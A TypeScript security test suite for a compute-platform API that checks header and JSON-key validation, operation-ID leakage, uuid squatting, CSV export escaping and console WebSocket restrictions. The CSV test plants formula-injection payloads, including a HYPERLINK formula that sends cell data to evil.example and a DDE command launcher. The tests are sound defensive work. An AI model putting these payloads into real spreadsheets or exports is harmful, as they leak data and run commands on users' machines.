import crypto from 'node:crypto';
import { startTestApi, expectError, type TestApi, type TestUser } from '../support/api';
import { addHost, createInstance, finished, uniq } from '../support/compute';
import http from 'node:http';
import net, { type AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import { WebSocketServer } from 'ws';
import { MAX_IDEMPOTENCY_KEY } from '../../api/platform/http/route';
import { describeBrowser, launchBrowser } from '../web/support';
import { SCAN_LIST_SECONDS } from '../../workflows/compute/runbooks';

/** Issue 22, "the rest of the review": each attack through HTTP, as a second non-admin user where it needs one. */
let api: TestApi;
let admin: string;
let alice: TestUser;
let mallory: TestUser;
beforeAll(async () => {
  api = await startTestApi();
  admin = await api.admin();
  alice = await api.createUser('user');
  mallory = await api.createUser('user');
});
afterAll(async () => { await api.close(); });

describe('Idempotency-Key and NUL characters in JSON keys are 422s, never 500s', () => {
  it('an over-long or non-ASCII Idempotency-Key is a 422 naming the header; nothing is started', async () => {
    const before = await api.deps.knex('operations').count('* as c').first();
    const long = await api.call('POST', '/api/v1/logs/cleanup', { token: admin, body: { days: 3650 }, headers: { 'idempotency-key': 'k'.repeat(MAX_IDEMPOTENCY_KEY + 1) } });
    expectError(long, 422, 'VALIDATION_ERROR');
    expect(long.body.error.details).toMatchObject({ field: 'Idempotency-Key' });
    const u = await api.createUser('user');
    const del = await api.call('DELETE', `/api/v1/users/${u.id}`, { token: admin, headers: { prefer: 'respond-async', 'idempotency-key': 'x'.repeat(1000) } });
    expectError(del, 422, 'VALIDATION_ERROR');
    expect(del.body.error.details.field).toBe('Idempotency-Key');
    expect(await api.deps.knex('operations').count('* as c').first()).toEqual(before);
    expect((await api.call('GET', `/api/v1/users/${u.id}`, { token: admin })).status).toBe(200);
    // At the bound it is accepted.
    const ok = await api.call('DELETE', `/api/v1/users/${u.id}`, { token: admin, headers: { prefer: 'respond-async', 'idempotency-key': 'y'.repeat(MAX_IDEMPOTENCY_KEY) } });
    expect(ok.status).toBe(202);
    await finished(api, admin, ok);
    // The document says so (and the fuzzer sends these headers).
    const doc = (await api.call('GET', '/api/v1/openapi.json')).body;
    const headers = doc.paths['/api/v1/logs/cleanup'].post.parameters.filter((p: { in: string }) => p.in === 'header');
    expect(headers.map((h: { name: string }) => h.name).sort()).toEqual(['Idempotency-Key', 'Prefer']);
    expect(headers.find((h: { name: string }) => h.name === 'Idempotency-Key').schema.maxLength).toBe(MAX_IDEMPOTENCY_KEY);
  });

  it('a NUL character in a JSON key, at any depth and on any surface, is a 422 with the envelope', async () => {
    const cases: Array<[string, string, string]> = [
      ['POST', '/api/v1/auth/login', '{"username":"x","password":"y","a\\u0000b":1}'],
      ['POST', '/api/v1/tokens', '{"name":"t","\\u0000":1}'],
      ['POST', '/api/v1/db/credentials', '{"name":"c","username":"u","password":"p","\\u0000":{"x":1}}'],
      ['PUT', '/api/v1/users/1', '{"email":"a@example.test","\\u0000":1}'],
      ['POST', '/api/v1/oauth/clients', '{"name":"n","redirect_uris":["https://a.example/cb"],"x":{"\\u0000":1}}'],
      ['POST', '/api/v1/monitoring/metrics', '{"host":"h","values":{"a\\u0000":1}}'],
      ['PUT', '/api/v1/user-data/k1', '{"value":{"b":{"\\u0000":1}}}'],
      ['POST', '/api/v1/hosts', '{"name":"h-nul","address":"127.0.0.1","engine_type":"simulator","options":{"a\\u0000b":1}}'],
    ];
    for (const [method, path, rawBody] of cases) {
      const res = await api.call(method, path, { token: admin, rawBody });
      expect([path, res.status, res.body?.success]).toEqual([path, 422, false]);
      expect(res.body.error.code).toBe('VALIDATION_ERROR');
    }
    // Seed 000 (plain JSON) and seed 004 (body credentials) answer in their own shapes, not a 500.
    for (const [path, rawBody] of [['/api/login', '{"username":"x","\\u0000":1}'], ['/api/oauth/clients', '{"api_token":"x","\\u0000":1}']]) {
      const res = await api.call('POST', path, { rawBody });
      expect([path, res.status < 500]).toEqual([path, true]);
    }
  });
});

describe('a 409 does not name another user’s operation', () => {
  it('names the running operation to its creator and admins only', async () => {
    await api.call('PUT', `/api/v1/users/${alice.id}/quota`, { token: admin, body: { cpu: 4, ram_mb: 4096, disk_gb: 40, instances: 4 } });
    const host = await addHost(api, { options: { latency_ms: 4000 } });
    const { op } = await createInstance(api, alice.token, { host_id: host.id, uuid: uniq('busy') });
    expect(op.status).toBe('succeeded');
    const id = (await api.deps.knex('instances').where({ uuid: op.resource.id }).first()).id;
    // The admin's operation holds alice's instance.
    const adminOp = await api.call('POST', `/api/v1/instances/${id}/power`, { token: admin, body: { action: 'stop' }, headers: { prefer: 'respond-async' } });
    expect(adminOp.status).toBe(202);
    const opId = adminOp.body.data.operation.id as string;
    const refused = await api.call('POST', `/api/v1/instances/${id}/power`, { token: alice.token, body: { action: 'start' } });
    expectError(refused, 409, 'CONFLICT');
    expect(refused.text).not.toContain(opId);
    expect(refused.body.error.details.operation_id).toBeUndefined();
    // An admin is told which one.
    const toAdmin = await api.call('POST', `/api/v1/instances/${id}/power`, { token: admin, body: { action: 'start' } });
    expectError(toAdmin, 409, 'CONFLICT');
    expect(toAdmin.body.error.details.operation_id).toBe(opId);
    await finished(api, admin, opId);
    // Her own running operation is named to her.
    const own = await api.call('POST', `/api/v1/instances/${id}/power`, { token: alice.token, body: { action: 'start' }, headers: { prefer: 'respond-async' } });
    expect(own.status).toBe(202);
    const again = await api.call('POST', `/api/v1/instances/${id}/power`, { token: alice.token, body: { action: 'stop' } });
    expectError(again, 409, 'CONFLICT');
    expect(again.body.error.details.operation_id).toBe(own.body.data.operation.id);
    await finished(api, alice.token, own);
  });
});

describe('instance uuids: a safe alphabet, so the platform’s derived names cannot be taken first', () => {
  it('refuses dots (`<uuid>.next`, `<uuid>.replaced`) and other characters with a 422 naming the field, on every surface', async () => {
    const host = await addHost(api, {});
    await api.call('PUT', `/api/v1/users/${mallory.id}/quota`, { token: admin, body: { cpu: 4, ram_mb: 4096, disk_gb: 40, instances: 4 } });
    const before = await api.deps.knex('instances').count('* as c').first();
    for (const uuid of ['victim.next', 'victim.replaced', 'a.b', 'bad uuid', '-lead', 'x/y']) {
      const res = await api.call('POST', '/api/v1/instances', { token: mallory.token, body: { name: 'squat', uuid, host_id: host.id } });
      expectError(res, 422, 'VALIDATION_ERROR');
      expect([uuid, res.body.error.details.field]).toEqual([uuid, 'uuid']);
    }
    const seed001 = await api.call('POST', `/api/client/create/${host.name}`, { token: mallory.token, body: { vm_uuid: 'victim.next', vm_name: 'squat' } });
    expect(seed001.status).toBe(422);
    expect(JSON.stringify(seed001.body)).toContain('vm_uuid');
    const seed000 = await api.call('POST', '/api/containers', { token: mallory.token, body: { container_name: 'victim.replaced', image: 'alpine:3', server_id: host.id } });
    expect(seed000.status).toBe(400); // seed 000 answers bad input with 400
    expect(JSON.stringify(seed000.body)).toContain('container_name');
    expect(await api.deps.knex('instances').count('* as c').first()).toEqual(before);
    // Letters, digits, dash and underscore are fine.
    const { op } = await createInstance(api, mallory.token, { host_id: host.id, uuid: `ok_${crypto.randomBytes(3).toString('hex')}-1` });
    expect(op.status).toBe('succeeded');
  });
});

describe('CSV exports escape formulas (OWASP CSV injection)', () => {
  it('a cell that starts with =, +, -, @, tab or CR is prefixed with a single quote, in the native and seed 002 exports', async () => {
    const mod = `csv${crypto.randomBytes(3).toString('hex')}`;
    const evil = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
    await api.deps.knex('log_entries').insert(evil.map((message, i) => ({ level: 'INFO', source: 'audit', module: mod, action: i === 0 ? '=cmd' : 'x', message, username: i === 1 ? '@evil' : 'ok' })));
    const link = await api.call('GET', `/api/v1/logs/export?format=csv&module=${mod}`, { token: admin });
    expect(link.status).toBe(200);
    const native = await (await fetch(api.url + link.body.data.download_url)).text();
    const compat = await api.call('GET', `/api/export?format=csv&module=${mod}`, { token: admin });
    expect(compat.status).toBe(200);
    for (const text of [native, compat.text]) {
      const rows = parse(text, { columns: true }) as Array<Record<string, string>>;
      expect(rows.map((r) => r.message).sort()).toEqual(evil.map((m) => `'${m}`).sort());
      expect(rows.find((r) => r.action !== 'x')?.action).toBe("'=cmd");
      expect(rows.map((r) => r.username)).toContain("'@evil");
      // No cell starts a formula.
      for (const r of rows) for (const v of Object.values(r)) expect(/^[=+\-@\t\r]/.test(v)).toBe(false);
    }
  });
});

describe('the console page connects only to the platform’s own gateways', () => {
  const gateway = 'ws://127.0.0.1:9/console';
  beforeAll(async () => {
    await api.deps.knex('console_gateways').insert({ url: gateway, task_queue: 'hardening-none' }).onConflict('url').merge();
  });
  afterAll(async () => { await api.deps.knex('console_gateways').where({ url: gateway }).delete(); });

  it('names only the registered gateways in the CSP connect-src and in the page, never any ws:/wss: address', async () => {
    for (const path of ['/console', '/console/vnc']) {
      const res = await api.call('GET', path);
      expect(res.status).toBe(200);
      const csp = res.headers.get('content-security-policy')!;
      const connect = /connect-src ([^;]+)/.exec(csp)![1].split(' ');
      expect(connect).toContain("'self'");
      expect(connect).toContain(gateway);
      expect(connect).not.toContain('ws:');
      expect(connect).not.toContain('wss:');
      expect(connect.every((c) => c === "'self'" || /^wss?:\/\/[^/]+\/[^ ]*$/.test(c))).toBe(true);
      expect(res.text).toContain(`content="[&quot;${gateway}&quot;`);
    }
    const script = await api.call('GET', '/console/assets/console.js');
    expect(script.text).toContain('ownGateway(url)');
  });
});

describeBrowser('the console page in chromium', () => {
  it('does not open a WebSocket to an address given in the URL that is no gateway of the platform; it opens the platform’s', async () => {
    const servers = await Promise.all(['127.0.0.5', '127.0.0.6'].map(async (host) => {
      const server = http.createServer();
      const wss = new WebSocketServer({ server });
      let connections = 0;
      wss.on('connection', (ws) => { connections++; ws.close(); });
      await new Promise<void>((r) => server.listen(0, host, r));
      return { url: `ws://${host}:${(server.address() as AddressInfo).port}/console`, count: () => connections, close: () => new Promise((r) => { wss.close(); server.close(r); }) };
    }));
    const [attacker, own] = servers;
    await api.deps.knex('console_gateways').insert({ url: own.url, task_queue: 'hardening-none' });
    const browser = await launchBrowser();
    try {
      let page = await browser.newPage();
      await page.goto(`${api.url}/console#${encodeURIComponent(`${attacker.url}?ticket=stolen`)}`);
      await page.getByText('No console address of this platform').waitFor({ timeout: 15_000 });
      await page.close();
      page = await browser.newPage();
      await page.goto(`${api.url}/console#${encodeURIComponent(`${own.url}?ticket=t`)}`);
      await page.getByText(/disconnected/).waitFor({ timeout: 15_000 });
      expect(own.count()).toBe(1);
      expect(attacker.count()).toBe(0);
      // The CSP stops it even without the script's check: a WebSocket to the attacker from the page is refused by the browser.
      const blocked = await page.evaluate((url) => new Promise<string>((resolve) => {
        try {
          const ws = new WebSocket(url);
          ws.onopen = () => resolve('open');
          ws.onerror = () => resolve('error');
        } catch (e) {
          resolve(`thrown: ${(e as Error).name}`);
        }
      }), attacker.url);
      expect(blocked).not.toBe('open');
      expect(attacker.count()).toBe(0);
    } finally {
      await browser.close();
      await api.deps.knex('console_gateways').where({ url: own.url }).delete();
      await Promise.all(servers.map((s) => s.close()));
    }
  }, 90_000);
});

describe('seed 001 host scan on an unreachable host', () => {
  it('answers within its bound in seed 001’s error shape instead of hanging', async () => {
    // A host that takes the connection and never answers (what a filtered or hung engine looks like to the worker).
    const sockets: net.Socket[] = [];
    const tarpit = net.createServer((s) => { sockets.push(s); s.on('error', () => undefined); });
    await new Promise<void>((r) => tarpit.listen(0, '127.0.0.7', r));
    try {
      const host = await addHost(api, { engine_type: 'docker', address: `tcp://127.0.0.7:${(tarpit.address() as AddressInfo).port}` });
      const started = Date.now();
      const res = await api.call('POST', `/api/client/scaner/${host.name}`, { token: admin });
      const took = Date.now() - started;
      // SCAN_LIST_SECONDS and the time to start and record the operation (a loaded machine), well under the 30 s wait.
      expect(took).toBeLessThan(SCAN_LIST_SECONDS * 1000 + 8000);
      expect(res.body).toMatchObject({ code: 503, msg: expect.any(String), data: { error: 'SERVICE_UNAVAILABLE' } });
    } finally {
      for (const s of sockets) s.destroy();
      tarpit.close();
    }
  }, 120_000);
});
